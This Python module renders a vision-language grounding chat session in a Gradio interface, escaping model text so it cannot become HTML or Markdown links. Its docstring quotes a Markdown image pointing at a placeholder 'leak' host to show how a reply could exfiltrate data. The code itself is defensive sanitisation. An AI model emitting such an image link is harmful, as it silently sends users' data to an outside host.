"""What the session looks like on screen: chat messages, the annotated image, the raw output.

Everything that reaches the browser as HTML is built here and escaped here: model text and
labels are data, never markup. Escaping HTML is not enough where Markdown is rendered (the chat,
the counts): ``![x](http://host/leak?…)`` in a reply would become an image the browser fetches
with no click. :func:`inert` also turns the characters that start Markdown links, images and
autolinks into character references, which display the same but start nothing.
"""

from __future__ import annotations

import html
import os
import re
import threading
from pathlib import Path

from PIL import Image

from .render import draw_boxes
from .session import Session, Turn

_GROUNDING_SPAN = re.compile(
    r"<\|ref\|>(.*?)<\|/ref\|>\s*(?:<\|det\|>.*?<\|/det\|>)?|<\|det\|>.*?<\|/det\|>", re.DOTALL
)
_OTHER_TAGS = re.compile(r"<\|/?(?:ref|det|grounding)\|>|<｜end▁of▁sentence｜>")


# Markdown's links and images ([, ], (, ), !), autolinks (http:, www., e-mail @), code and diagrams
# (`), and backslash escapes that could undo the others.
_MARKDOWN_ACTIVE = str.maketrans({c: f"&#{ord(c)};" for c in "[]()!:@`\\"})


def inert(text: str) -> str:
    """``text`` as HTML that shows exactly these characters: no tag, link, image or autolink."""
    return html.escape(text).translate(_MARKDOWN_ACTIVE).replace("www.", "www&#46;").replace("WWW.", "WWW&#46;")


def answer_html(turn: Turn, session: Session, numbers: dict[int, int] | None = None) -> str:
    """The reply with each grounded phrase highlighted in its box colour (text escaped).

    A phrase takes the colour of the box drawn for it (so a renamed box keeps them matched); the
    phrase of the selected box gets a stronger tint and an outline in its colour.
    """
    text = turn.reply
    selected = session.selected_box()
    selected_ref = selected.ref_index if selected is not None and selected in turn.boxes else None
    numbers = box_numbers(session) if numbers is None else numbers
    pieces: list[str] = []
    cursor = 0
    ref_index = -1
    for match in _GROUNDING_SPAN.finditer(text):
        pieces.append(inert(_OTHER_TAGS.sub("", text[cursor : match.start()])))
        ref_index += 1
        label = match.group(1)
        if label is not None:
            label = label.strip()
            box = next((b for b in turn.boxes if b.ref_index == ref_index), None)
            drawn = box.label if box is not None and box.label else label
            color = session.colors.hex(drawn)
            # The selected phrase gets a stronger tint and an outline; the text keeps the theme's
            # colour, so it reads the same in light and dark themes.
            style = (
                f"background:{color}66;color:inherit;outline:2px solid {color}"
                if ref_index == selected_ref
                else f"background:{color}33;color:inherit"
            )
            # The chat's sanitizer drops data-* attributes; a class carries the box's number instead.
            number = f' class="vl2-ref vl2-box-{numbers[id(box)]}"' if box is not None and id(box) in numbers else ""
            pieces.append(
                f'<mark{number} style="{style};border-bottom:3px solid {color};padding:0 2px">{inert(label)}</mark>'
            )
        cursor = match.end()
    tail = text[cursor:]
    # An unfinished tag at the end of a streaming reply is hidden until it closes.
    tail = re.sub(r"<\|(?:ref|det)\|>.*$", "", tail, flags=re.DOTALL)
    pieces.append(inert(_OTHER_TAGS.sub("", tail)))
    body = "".join(pieces).strip()
    notes = []
    if turn.boxes:
        notes.append(f"{len(turn.boxes)} box{'es' if len(turn.boxes) != 1 else ''}")
    if turn.rejected:
        notes.append(f"{len(turn.rejected)} malformed span(s) skipped — see Raw output")
    if turn.stopped:
        notes.append("stopped")
    if turn.error:
        notes.append(inert(turn.error))
    if notes:
        body += f'\n\n<span style="font-size:.9em;font-style:italic">[{" · ".join(notes)}]</span>'
    return body or "…"


def chat_messages(session: Session, image_paths: dict[str, str]) -> list[dict]:
    """Gradio ``messages`` for the chatbot: the user's words and images, then the highlighted reply."""
    messages: list[dict] = []
    numbers = box_numbers(session)  # once for all turns: the chat is rebuilt on every streamed update
    for turn in session.turns:
        for key in turn.image_keys:
            if key in image_paths:
                messages.append({"role": "user", "content": {"path": image_paths[key]}})
        messages.append({"role": "user", "content": inert(turn.user_text) or "…"})
        messages.append({"role": "assistant", "content": answer_html(turn, session, numbers)})
    return messages


def annotated_view(
    session: Session, key: str | None, *, full_resolution: bool = False, in_place: bool = False
) -> Image.Image | None:
    """The image with the visible boxes that belong to it (the selected one thicker) and click pins.

    Sized for the browser, unless ``full_resolution`` (the PNG export, without pins).
    """
    if key is None or key not in session.images:
        return None
    original = session.images[key].image
    shown = original if full_resolution else session.images[key].display
    scale = shown.width / original.width
    selected = session.selected_box()
    boxes: list[tuple[tuple[float, ...], str]] = []
    highlight = None
    for _turn, box in session.boxes_on(key, visible_only=True):
        if box is selected:
            highlight = len(boxes)
        boxes.append((tuple(v * scale for v in box.xyxy), box.label or "object"))
    pins = [] if full_resolution else [(x * scale, y * scale) for x, y in session.pins.get(key, [])]
    return draw_boxes(shown, boxes, session.colors, highlight=highlight, pins=pins, in_place=in_place)


def save_atomically(image: Image.Image, path: Path) -> None:
    """Write under a temporary name, then rename: a reader never sees a half-written file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    staging = path.with_suffix(f".{os.getpid()}.{threading.get_ident()}.tmp")
    image.save(staging, format="PNG", compress_level=1)
    os.replace(staging, path)


def box_numbers(session: Session) -> dict[int, int]:
    """The number each box has on the page (panel, canvas, 1–9 keys), by the box object's id."""
    return {id(box): number for number, _t, _b, box in session.numbered_boxes()}


def box_panel_html(session: Session) -> str:
    """The box panel: one row per box of the conversation, numbered as on the canvas (labels escaped)."""
    rows = session.numbered_boxes()
    if not rows:
        return '<p class="empty">Each box will be listed here, numbered as on the image.</p>'
    keys = list(session.images)
    selected = session.selected_box()
    body = []
    for number, turn_index, _box_index, box in rows:
        key = session.turns[turn_index].target_image
        label = box.label or "object"
        image = f"{keys.index(key) + 1}: {session.images[key].name}" if key in session.images else "—"
        classes = [
            c for c, on in (("selected", box is selected), ("hidden-label", label in session.hidden_labels)) if on
        ]
        body.append(
            f'<tr data-box-index="{number}" tabindex="0" class="{" ".join(classes)}"'
            f' aria-selected="{"true" if box is selected else "false"}">'
            f"<td>{number}</td>"
            f'<td class="label"><span class="swatch" style="background:{session.colors.hex(box.label)}"></span>'
            f"{inert(label)}{' (hidden)' if label in session.hidden_labels else ''}</td>"
            f'<td class="col-image">{inert(image)}</td>'
            f"<td>{', '.join(f'{v:.0f}' for v in box.xyxy)}</td>"
            f'<td class="col-norm">{", ".join(str(v) for v in box.norm999)}</td></tr>'
        )
    head = (
        '<tr><th>#</th><th>label</th><th class="col-image">image</th><th>pixels x1, y1, x2, y2</th>'
        '<th class="col-norm">0–999</th></tr>'
    )
    return f"<table><thead>{head}</thead><tbody>{''.join(body)}</tbody></table>"


def label_summary(session: Session) -> str:
    counts = session.label_counts()
    if not counts:
        return "No boxes yet — use Find, Grounded answer, or click the image."
    return " · ".join(f"{count} × {inert(label)}" for label, count in counts.items())


def raw_output(session: Session) -> str:
    """The model's exact text for the last turn, plus the spans the parser rejected."""
    if not session.turns:
        return ""
    turn = session.turns[-1]
    lines = [turn.reply]
    if turn.rejected:
        lines.append("\n--- rejected spans ---")
        lines += [f"{r.reason}: {r.text}" for r in turn.rejected]
    return "\n".join(lines)
